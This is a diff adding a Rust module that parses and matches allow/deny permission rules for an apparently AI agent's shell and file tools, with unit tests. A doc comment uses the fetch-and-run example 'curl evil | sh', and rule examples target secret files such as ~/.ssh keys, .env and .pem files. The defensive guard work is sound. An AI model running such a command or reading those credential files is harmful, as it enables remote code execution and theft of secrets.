@@ -1,0 +1,393 @@
+//! Permission rules: `allow` and `deny` lists from the config's `[permissions]` table and the `--allow`/`--deny`
+//! flags.
+//!
+//! A rule is a tool name (`run`, `read_file`, or the families `Run`, `Read`, `Edit`) optionally followed by a
+//! pattern in parentheses: `Run(cargo test*)`, `Run(git push:*)`, `Edit(**/.env)`, `Read(~/.ssh/**)`. Deny always
+//! wins over allow. A `Run` allow rule approves a command line only when every command in it (as the guard
+//! sees them, wrappers and nested shells included) is covered, so `Run(cargo test*)` does not approve
+//! `cargo test && curl evil | sh`.
+
+use std::path::Path;
+
+/// The error returned by [`Rule::parse()`].
+#[derive(Debug, thiserror::Error)]
+pub enum RuleError {
+    #[error("invalid permission rule '{0}': expected a tool name, optionally with a pattern: Run(cargo test*), Edit(**/.env), read_file")]
+    Syntax(String),
+    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, run, read_file, list_files, search, edit_file, write_file)")]
+    UnknownTool { rule: String, tool: String },
+}
+
+/// What a rule is about.
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum Family {
+    /// `run` commands; the pattern matches each command.
+    Run,
+    /// Reading tools; the pattern matches the path.
+    Read,
+    /// Writing tools; the pattern matches the path.
+    Edit,
+    /// One tool by its exact name; a pattern, if any, matches its `path` argument.
+    Tool(String),
+}
+
+/// One parsed rule.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Rule {
+    /// The rule as written, for audit records and messages.
+    pub text: String,
+    family: Family,
+    pattern: Option<String>,
+}
+
+const TOOLS: &[&str] = &[
+    "run",
+    "read_file",
+    "list_files",
+    "search",
+    "edit_file",
+    "write_file",
+];
+
+impl Rule {
+    pub fn parse(text: &str) -> Result<Rule, RuleError> {
+        let text = text.trim();
+        let (name, pattern) = match text.split_once('(') {
+            Some((name, rest)) => {
+                let pattern = rest
+                    .strip_suffix(')')
+                    .ok_or_else(|| RuleError::Syntax(text.to_string()))?;
+                (name.trim(), Some(pattern.trim().to_string()))
+            }
+            None => (text, None),
+        };
+        if name.is_empty() || pattern.as_deref() == Some("") {
+            return Err(RuleError::Syntax(text.to_string()));
+        }
+        let family = match name {
+            "Run" | "Bash" | "Shell" => Family::Run,
+            "Read" => Family::Read,
+            "Edit" | "Write" => Family::Edit,
+            tool if TOOLS.contains(&tool) => Family::Tool(tool.to_string()),
+            tool => {
+                return Err(RuleError::UnknownTool {
+                    rule: text.to_string(),
+                    tool: tool.to_string(),
+                })
+            }
+        };
+        Ok(Rule {
+            text: text.to_string(),
+            family,
+            pattern,
+        })
+    }
+
+    fn covers_tool(&self, tool: &str) -> bool {
+        match &self.family {
+            Family::Run => tool == "run",
+            Family::Read => matches!(tool, "read_file" | "list_files" | "search"),
+            Family::Edit => matches!(tool, "edit_file" | "write_file"),
+            Family::Tool(name) => name == tool,
+        }
+    }
+
+    /// Whether this rule covers one command of a `run` line.
+    pub fn covers_command(&self, command: &str) -> bool {
+        if !self.covers_tool("run") {
+            return false;
+        }
+        match &self.pattern {
+            None => true,
+            Some(p) => command_matches(p, command),
+        }
+    }
+
+    /// Whether this rule covers a file tool on `rel` (checkout-relative) / `abs`.
+    pub fn covers_path(&self, tool: &str, rel: &Path, abs: &Path, home: Option<&Path>) -> bool {
+        if !self.covers_tool(tool) || tool == "run" {
+            return false;
+        }
+        let Some(p) = &self.pattern else { return true };
+        let pattern = match (p.strip_prefix("~/"), home) {
+            (Some(rest), Some(home)) => format!("{}/{rest}", home.display()),
+            _ => p.clone(),
+        };
+        let rel = rel.to_string_lossy();
+        let abs = abs.to_string_lossy();
+        if pattern.starts_with('/') {
+            return glob_matches(&pattern, &abs);
+        }
+        if !pattern.contains('/') {
+            // Like .gitignore: a pattern without a slash matches the file name at any depth.
+            let name = rel.rsplit('/').next().unwrap_or(&rel);
+            return glob_matches(&pattern, name);
+        }
+        glob_matches(&pattern, &rel)
+    }
+
+    /// A bare tool rule (`run`, `Edit`) without a pattern.
+    pub fn is_bare(&self) -> bool {
+        self.pattern.is_none()
+    }
+}
+
+/// The allow and deny lists.
+#[derive(Clone, Debug, Default)]
+pub struct Rules {
+    pub allow: Vec<Rule>,
+    pub deny: Vec<Rule>,
+}
+
+impl Rules {
+    /// Builds the lists from config values and flags (config first, flags after; order does not matter for
+    /// the outcome since deny wins).
+    pub fn from_lists<S: AsRef<str>>(allow: &[S], deny: &[S]) -> Result<Rules, RuleError> {
+        Ok(Rules {
+            allow: allow
+                .iter()
+                .map(|r| Rule::parse(r.as_ref()))
+                .collect::<Result<_, _>>()?,
+            deny: deny
+                .iter()
+                .map(|r| Rule::parse(r.as_ref()))
+                .collect::<Result<_, _>>()?,
+        })
+    }
+
+    /// Adds more rules (e.g. flags on top of the config).
+    pub fn extend(&mut self, other: Rules) {
+        self.allow.extend(other.allow);
+        self.deny.extend(other.deny);
+    }
+
+    /// The first deny rule that matches a bare tool name.
+    pub fn deny_tool(&self, tool: &str) -> Option<&Rule> {
+        self.deny
+            .iter()
+            .find(|r| r.is_bare() && r.covers_tool(tool))
+    }
+
+    /// The first deny rule covering any command of a `run` line.
+    pub fn deny_commands<'a>(&'a self, commands: &'a [String]) -> Option<(&'a Rule, &'a str)> {
+        commands.iter().find_map(|c| {
+            self.deny
+                .iter()
+                .find(|r| !r.is_bare() && r.covers_command(c))
+                .map(|r| (r, c.as_str()))
+        })
+    }
+
+    /// The allow rules that cover every command of a `run` line (one per command), or `None` if any command is
+    /// not covered. A line without commands (only assignments) is covered by nothing.
+    pub fn allow_commands(&self, commands: &[String]) -> Option<Vec<&Rule>> {
+        if commands.is_empty() {
+            return None;
+        }
+        commands
+            .iter()
+            .map(|c| self.allow.iter().find(|r| r.covers_command(c)))
+            .collect()
+    }
+
+    pub fn deny_path(
+        &self,
+        tool: &str,
+        rel: &Path,
+        abs: &Path,
+        home: Option<&Path>,
+    ) -> Option<&Rule> {
+        self.deny
+            .iter()
+            .find(|r| !r.is_bare() && r.covers_path(tool, rel, abs, home))
+    }
+
+    pub fn allow_path(
+        &self,
+        tool: &str,
+        rel: &Path,
+        abs: &Path,
+        home: Option<&Path>,
+    ) -> Option<&Rule> {
+        self.allow
+            .iter()
+            .find(|r| r.covers_path(tool, rel, abs, home))
+    }
+}
+
+/// `git push:*` means "git push" alone or followed by arguments; otherwise `*` is a wildcard and anything
+/// else must match exactly.
+fn command_matches(pattern: &str, command: &str) -> bool {
+    let command = command.trim();
+    if let Some(prefix) = pattern.strip_suffix(":*") {
+        let prefix = prefix.trim();
+        return command == prefix
+            || command
+                .strip_prefix(prefix)
+                .is_some_and(|rest| rest.starts_with(' '));
+    }
+    wildcard(pattern.as_bytes(), command.as_bytes())
+}
+
+/// Glob over paths: `**` crosses directories (and `**/` may match nothing), `*` and `?` do not cross `/`.
+pub fn glob_matches(pattern: &str, path: &str) -> bool {
+    glob(pattern.as_bytes(), path.as_bytes())
+}
+
+fn glob(p: &[u8], s: &[u8]) -> bool {
+    if p.starts_with(b"**/") {
+        let rest = &p[3..];
+        return glob(rest, s) || (0..s.len()).any(|i| s[i] == b'/' && glob(rest, &s[i + 1..]));
+    }
+    if p.starts_with(b"**") {
+        let rest = &p[2..];
+        return (0..=s.len()).any(|i| glob(rest, &s[i..]));
+    }
+    match (p.first(), s.first()) {
+        (None, None) => true,
+        (Some(b'*'), _) => {
+            let rest = &p[1..];
+            (0..=s.len())
+                .take_while(|&i| i == 0 || s[i - 1] != b'/')
+                .any(|i| glob(rest, &s[i..]))
+        }
+        (Some(b'?'), Some(c)) if *c != b'/' => glob(&p[1..], &s[1..]),
+        (Some(a), Some(b)) if a == b => glob(&p[1..], &s[1..]),
+        _ => false,
+    }
+}
+
+/// `*` matches any run of characters (spaces and slashes included) in command patterns.
+fn wildcard(p: &[u8], s: &[u8]) -> bool {
+    match p.first() {
+        None => s.is_empty(),
+        Some(b'*') => (0..=s.len()).any(|i| wildcard(&p[1..], &s[i..])),
+        Some(c) => s.first() == Some(c) && wildcard(&p[1..], &s[1..]),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(allow: &[&str], deny: &[&str]) -> Rules {
+        Rules::from_lists(allow, deny).unwrap()
+    }
+
+    fn cmds(list: &[&str]) -> Vec<String> {
+        list.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn parse_errors_name_the_rule() {
+        assert!(Rule::parse("Run(cargo")
+            .unwrap_err()
+            .to_string()
+            .contains("'Run(cargo'"));
+        assert!(Rule::parse("Frobnicate(x)")
+            .unwrap_err()
+            .to_string()
+            .contains("unknown tool 'Frobnicate'"));
+        assert!(Rule::parse("Run()").is_err());
+        assert!(Rule::parse("read_file").unwrap().is_bare());
+    }
+
+    #[test]
+    fn run_patterns() {
+        let r = Rule::parse("Run(cargo test*)").unwrap();
+        assert!(r.covers_command("cargo test"));
+        assert!(r.covers_command("cargo test --all -- --nocapture"));
+        assert!(!r.covers_command("cargo build"));
+        let r = Rule::parse("Run(git push:*)").unwrap();
+        assert!(r.covers_command("git push"));
+        assert!(r.covers_command("git push origin main"));
+        assert!(!r.covers_command("git pushy"));
+        let r = Rule::parse("Run(make)").unwrap();
+        assert!(r.covers_command("make"));
+        assert!(!r.covers_command("make install"));
+    }
+
+    #[test]
+    fn allow_needs_every_command_covered_and_deny_wins() {
+        let rs = rules(&["Run(cargo test*)", "Run(ls:*)"], &["Run(git push:*)"]);
+        assert!(rs
+            .allow_commands(&cmds(&["cargo test", "ls -la"]))
+            .is_some());
+        assert!(rs
+            .allow_commands(&cmds(&["cargo test", "curl x"]))
+            .is_none());
+        assert!(rs.allow_commands(&[]).is_none());
+        let line = cmds(&["ls", "git push origin x"]);
+        let (rule, cmd) = rs.deny_commands(&line).unwrap();
+        assert_eq!(
+            (rule.text.as_str(), cmd),
+            ("Run(git push:*)", "git push origin x")
+        );
+        let bare = rules(&[], &["run"]);
+        assert!(bare.deny_tool("run").is_some());
+        assert!(bare.deny_tool("read_file").is_none());
+    }
+
+    #[test]
+    fn path_patterns() {
+        let home = Path::new("/home/u");
+        let edit_env = Rule::parse("Edit(**/.env)").unwrap();
+        assert!(edit_env.covers_path(
+            "write_file",
+            Path::new(".env"),
+            Path::new("/r/.env"),
+            Some(home)
+        ));
+        assert!(edit_env.covers_path(
+            "edit_file",
+            Path::new("a/b/.env"),
+            Path::new("/r/a/b/.env"),
+            Some(home)
+        ));
+        assert!(!edit_env.covers_path(
+            "read_file",
+            Path::new(".env"),
+            Path::new("/r/.env"),
+            Some(home)
+        ));
+        assert!(!edit_env.covers_path(
+            "edit_file",
+            Path::new(".envrc"),
+            Path::new("/r/.envrc"),
+            Some(home)
+        ));
+        let ssh = Rule::parse("Read(~/.ssh/**)").unwrap();
+        assert!(ssh.covers_path(
+            "read_file",
+            Path::new("x"),
+            Path::new("/home/u/.ssh/id_rsa"),
+            Some(home)
+        ));
+        assert!(!ssh.covers_path(
+            "read_file",
+            Path::new("x"),
+            Path::new("/home/v/.ssh/id_rsa"),
+            Some(home)
+        ));
+        let pem = Rule::parse("Read(*.pem)").unwrap();
+        assert!(pem.covers_path(
+            "search",
+            Path::new("certs/a.pem"),
+            Path::new("/r/certs/a.pem"),
+            None
+        ));
+        let src = Rule::parse("Edit(src/*.rs)").unwrap();
+        assert!(src.covers_path(
+            "edit_file",
+            Path::new("src/a.rs"),
+            Path::new("/r/src/a.rs"),
+            None
+        ));
+        assert!(!src.covers_path(
+            "edit_file",
+            Path::new("src/x/a.rs"),
+            Path::new("/r/src/x/a.rs"),
+            None
+        ));
+    }
+}
